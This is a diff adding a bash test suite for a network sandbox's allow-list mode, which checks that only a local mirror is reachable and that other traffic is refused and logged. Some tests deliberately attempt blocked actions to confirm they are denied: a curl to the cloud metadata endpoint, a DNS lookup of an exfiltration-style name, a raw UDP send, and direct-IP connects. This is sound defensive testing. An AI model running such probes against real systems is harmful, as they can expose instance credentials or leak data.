@@ -1,0 +1,204 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: LGPL-2.1-or-later
+# --net allow end to end (issue 5): a local package mirror on 127.0.0.3 is the
+# only allowed destination (mapped with --resolve); the sandbox reaches it
+# through the HTTP proxy, SOCKS5 and transparent capture; everything else is
+# refused fast and logged. Only loopback and the sandbox's own namespace are
+# ever used.
+# shellcheck source=tests/lib/tap.sh
+. "$(dirname "$0")/../lib/tap.sh"
+
+PY=/usr/bin/python3
+MIRROR_ADDR=127.0.0.3
+MIRROR_DIR=$(mktemp -d "${TMPDIR:-/tmp}/moat-mirror.XXXXXX")
+echo "package-bytes-$$" >"$MIRROR_DIR/pkg.txt"
+MIRROR_PID=
+MIRROR_PORT=
+
+start_mirror() {
+	[ -x "$PY" ] || return 1
+	"$PY" -u -m http.server 0 --bind "$MIRROR_ADDR" --directory "$MIRROR_DIR" \
+		>"$MIRROR_DIR/.log" 2>&1 &
+	MIRROR_PID=$!
+	for _ in $(seq 50); do
+		MIRROR_PORT=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$MIRROR_DIR/.log" | head -1)
+		[ -n "$MIRROR_PORT" ] && return 0
+		sleep 0.1
+	done
+	return 1
+}
+cleanup() {
+	[ -n "$MIRROR_PID" ] && kill "$MIRROR_PID" 2>/dev/null
+	rm -rf "$MIRROR_DIR" "$T_OUT"
+}
+trap cleanup EXIT
+start_mirror || MIRROR_PORT=
+
+need() {
+	[ -n "$MIRROR_PORT" ] || skip "cannot start the local mirror ($PY -m http.server)"
+	command -v curl >/dev/null || skip "curl not installed"
+}
+
+# mrun LOG ARGS... -- CMD: a sandbox whose only destination is the mirror.
+mrun() {
+	local log=$1
+	shift
+	rm -f "$log"
+	"$MOAT" run --quiet --log "$log" --allow-host "mirror.test:$MIRROR_PORT" \
+		--resolve "mirror.test=$MIRROR_ADDR" "$@"
+}
+
+t_http_proxy() {
+	need
+	local out
+	out=$(mrun "$T_OUT/log.json" -- curl -sS -m5 "http://mirror.test:$MIRROR_PORT/pkg.txt")
+	assert_eq "package-bytes-$$" "$out"
+	assert_contains "$(cat "$T_OUT/log.json")" '"type":"net","proto":"http","host":"mirror.test"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"action":"allow"'
+	# positive control: the mirror answers on the host
+	assert_eq "package-bytes-$$" "$(curl -sS -m5 --noproxy '*' "http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt")"
+}
+
+t_socks_and_transparent() {
+	need
+	local out
+	out=$(mrun "$T_OUT/log.json" -- sh -c "
+		curl -sS -m5 --socks5-hostname 127.0.0.1:1080 http://mirror.test:$MIRROR_PORT/pkg.txt
+		env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS -m5 http://mirror.test:$MIRROR_PORT/pkg.txt")
+	assert_eq "package-bytes-$$
+package-bytes-$$" "$out"
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"socks","host":"mirror.test"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","host":"mirror.test"'
+}
+
+t_python_socket_to_allowed_name() {
+	need
+	local out
+	out=$(mrun "$T_OUT/log.json" -- "$PY" -c "
+import socket
+s = socket.create_connection(('mirror.test', $MIRROR_PORT), 3)
+s.sendall(b'GET /pkg.txt HTTP/1.0\r\nHost: mirror.test\r\n\r\n')
+d = b''
+while True:
+    b = s.recv(4096)
+    if not b: break
+    d += b
+print(d.split(b'\r\n\r\n', 1)[1].decode().strip())")
+	assert_eq "package-bytes-$$" "$out"
+}
+
+t_other_hosts_refused_and_logged() {
+	need
+	local out
+	out=$(mrun "$T_OUT/log.json" -- sh -c "
+		curl -sS -m5 http://other.test:$MIRROR_PORT/ ; echo
+		curl -sS -m5 http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt ; echo
+		curl -sS -m5 --noproxy "" -x http://127.0.0.1:3128 http://localhost:$MIRROR_PORT/pkg.txt ; echo
+		curl -sS -m5 http://169.254.169.254/latest/meta-data/ ; echo
+		curl -sS -m5 -p http://mirror.test:22/ 2>&1 | head -c 200; echo")
+	assert_contains "$out" "refused GET http://other.test:$MIRROR_PORT (not-allowed); to allow it: --allow-host other.test:$MIRROR_PORT"
+	assert_contains "$out" "refused GET http://$MIRROR_ADDR:$MIRROR_PORT (loopback)"
+	assert_contains "$out" "(local-name)"
+	assert_contains "$out" "(metadata)"
+	assert_contains "$out" "403"
+	assert_not_contains "$out" "package-bytes"
+	local log
+	log=$(cat "$T_OUT/log.json")
+	assert_contains "$log" '"host":"other.test","raw":"other.test:'
+	assert_contains "$log" '"action":"deny","rule":null,"reason":"not-allowed"'
+	assert_contains "$log" '"reason":"metadata"'
+	assert_contains "$log" '"type":"alert","cause":"net_denied"'
+}
+
+t_dns_refusal_recorded() {
+	need
+	local rc=0
+	mrun "$T_OUT/log.json" -- getent hosts secret123.exfil.test >/dev/null 2>&1 || rc=$?
+	assert_eq 2 "$rc" "getent of a name that is not allowed"
+	assert_contains "$(cat "$T_OUT/log.json")" '"type":"dns","name":"secret123.exfil.test","qtype":"A","action":"deny"'
+	# an allowed name resolves to a synthetic address
+	local out
+	out=$(mrun "$T_OUT/log2.json" -- getent hosts mirror.test)
+	assert_contains "$out" "198.18.128."
+}
+
+t_udp_dropped_and_logged() {
+	need
+	local out
+	out=$(mrun "$T_OUT/log.json" -- bash -c 'echo x > /dev/udp/203.0.113.9/53 && echo SENT || echo REFUSED' 2>/dev/null)
+	assert_eq REFUSED "$out"
+	assert_contains "$(cat "$T_OUT/log.json")" '"reason":"dropped"'
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"udp","host":null,"raw":null,"addr":"203.0.113.9","port":53'
+}
+
+t_direct_ip_refused_fast() {
+	need
+	local start end out
+	start=$(date +%s)
+	out=$(mrun "$T_OUT/log.json" -- sh -c "
+		curl -sS -m10 --noproxy '*' http://203.0.113.7:$MIRROR_PORT/ 2>&1 || echo FAILED
+		curl -sS -m10 --noproxy '*' -g 'http://[2001:db8::7]:$MIRROR_PORT/' 2>&1 || echo FAILED")
+	end=$(date +%s)
+	assert_contains "$out" FAILED
+	assert_not_contains "$out" "package-bytes"
+	[ $((end - start)) -lt 5 ] || fail "direct connects took $((end - start)) s (should fail fast)"
+	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","host":null,"raw":"203.0.113.7:'
+}
+
+t_net_none_has_no_route() {
+	need
+	local out
+	out=$("$MOAT" run --quiet -- sh -c "curl -sS -m5 --noproxy '*' http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt 2>&1 || echo FAILED")
+	assert_contains "$out" FAILED
+	assert_not_contains "$out" "package-bytes"
+}
+
+t_https_through_connect_and_transparent() {
+	need
+	command -v openssl >/dev/null || skip "openssl not installed"
+	local tls="$T_OUT/tls"
+	mkdir -p "$tls"
+	openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=mirror.test \
+		-addext subjectAltName=DNS:mirror.test -keyout "$tls/key.pem" \
+		-out "$tls/cert.pem" >/dev/null 2>&1 || fail "openssl req"
+	chmod -R a+rX "$tls"
+	"$PY" -u -c "
+import http.server, ssl, sys
+h = http.server.HTTPServer(('$MIRROR_ADDR', 0), http.server.SimpleHTTPRequestHandler)
+c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+c.load_cert_chain('$tls/cert.pem', '$tls/key.pem')
+h.socket = c.wrap_socket(h.socket, server_side=True)
+print(h.server_address[1], flush=True)
+h.serve_forever()" >"$tls/port" 2>/dev/null &
+	local pid=$! port=
+	for _ in $(seq 50); do
+		port=$(head -1 "$tls/port" 2>/dev/null || true)
+		[ -n "$port" ] && break
+		sleep 0.1
+	done
+	[ -n "$port" ] || { kill $pid; fail "https server did not start"; }
+	local out
+	rm -f "$T_OUT/log.json"
+	out=$(cd "$MIRROR_DIR" && "$MOAT" run --quiet --log "$T_OUT/log.json" --ro "$tls" \
+		--allow-host "mirror.test:$port" --resolve "mirror.test=$MIRROR_ADDR" -- sh -c "
+		curl -sS -m5 --cacert $tls/cert.pem https://mirror.test:$port/ >/dev/null && echo CONNECT-OK
+		curl -sS -m5 --noproxy '*' --cacert $tls/cert.pem https://mirror.test:$port/ >/dev/null && echo TRANSPARENT-OK")
+	kill $pid 2>/dev/null || true
+	assert_contains "$out" CONNECT-OK
+	assert_contains "$out" TRANSPARENT-OK
+	local log
+	log=$(cat "$T_OUT/log.json")
+	assert_contains "$log" '"proto":"connect","host":"mirror.test"'
+	assert_contains "$log" '"sni":"mirror.test","action":"allow"'
+}
+
+run_test http_proxy t_http_proxy
+run_test https_through_connect_and_transparent t_https_through_connect_and_transparent
+run_test socks_and_transparent t_socks_and_transparent
+run_test python_socket_to_allowed_name t_python_socket_to_allowed_name
+run_test other_hosts_refused_and_logged t_other_hosts_refused_and_logged
+run_test dns_refusal_recorded t_dns_refusal_recorded
+run_test udp_dropped_and_logged t_udp_dropped_and_logged
+run_test direct_ip_refused_fast t_direct_ip_refused_fast
+run_test net_none_has_no_route t_net_none_has_no_route
+t_done
